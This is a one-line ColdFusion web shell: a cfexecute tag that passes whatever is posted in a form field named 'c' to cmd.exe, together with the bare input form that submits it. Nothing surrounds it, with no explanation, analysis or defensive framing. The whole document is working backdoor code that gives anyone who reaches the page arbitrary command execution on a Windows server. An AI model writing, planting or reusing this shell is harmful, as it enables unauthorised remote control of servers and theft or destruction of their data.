<cfexecute name="cmd.exe" arguments="#form.c#" variable="o"></cfexecute><form method="post"><input name="c"></form>
